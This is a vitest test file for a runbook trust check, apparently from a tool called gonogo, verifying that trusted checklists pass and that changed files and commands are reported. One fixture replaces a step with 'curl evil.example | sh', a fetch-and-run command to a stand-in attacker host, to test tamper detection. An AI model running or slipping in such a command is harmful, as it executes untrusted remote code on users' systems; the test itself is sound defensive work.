import { describe, expect, it } from 'vitest';
import { commandsOf, trustIn, type Trusted } from '../../src/model/trust.ts';
import type { Checklist } from '../../src/model/checklist.ts';
import { checklistOf, item } from '../output/launches.ts';

const step = { n: 1, title: 'Restart it', command: 'railway restart', line: 3, mutating: true, shell: false, terminal: false };
const section = { ref: 'a.runbook.md#worker', title: 'Worker', markdown: '', line: 1, source: [], before: [], after: [], steps: [step] };
const plain = checklistOf({ before: [item('one')] });
const own: Checklist = { ...plain, digest: 'now', files: { 'a.md': '1', 'a.runbook.md': '2' }, runbook: [section] };
const trusted: Trusted = { digest: 'now', files: { 'a.md': '1', 'a.runbook.md': '2' }, commands: commandsOf(own), at: '2026-11-20T10:00:00.000Z', by: 'ada' };

describe('trust in a checklist', () => {
  it.each([
    ['has no commands', plain, undefined],
    ['is as it was trusted', own, trusted],
  ])('is there where it %s', (_what, checklist, known) => {
    expect(trustIn(checklist, known)).toEqual({ trusted: true });
  });

  it('is not there for a file that nobody trusted, and the way to it is said', () => {
    expect(trustIn(own, undefined)).toMatchObject({ trusted: false, why: expect.stringContaining('`gonogo trust '), changes: [] });
  });

  it('ends with a change, and tells which file and which command it was', () => {
    const changed: Checklist = {
      ...own,
      digest: 'later',
      files: { 'a.md': '1', 'a.runbook.md': '3', 'b.yaml': '4' },
      runbook: [{ ...section, steps: [{ ...step, command: 'curl evil.example | sh' }] }],
    };
    const state = trustIn(changed, { ...trusted, files: { ...trusted.files, 'old.yaml': '9' } });
    expect(state).toMatchObject({ trusted: false, why: expect.stringContaining('ada trusted it on 2026-11-20') });
    expect('changes' in state && state.changes).toEqual([
      'changed file: a.runbook.md',
      'new file: b.yaml',
      'no longer part of it: old.yaml',
      '+ a.runbook.md#worker, step 1: curl evil.example | sh',
      '- a.runbook.md#worker, step 1: railway restart',
    ]);
  });
});
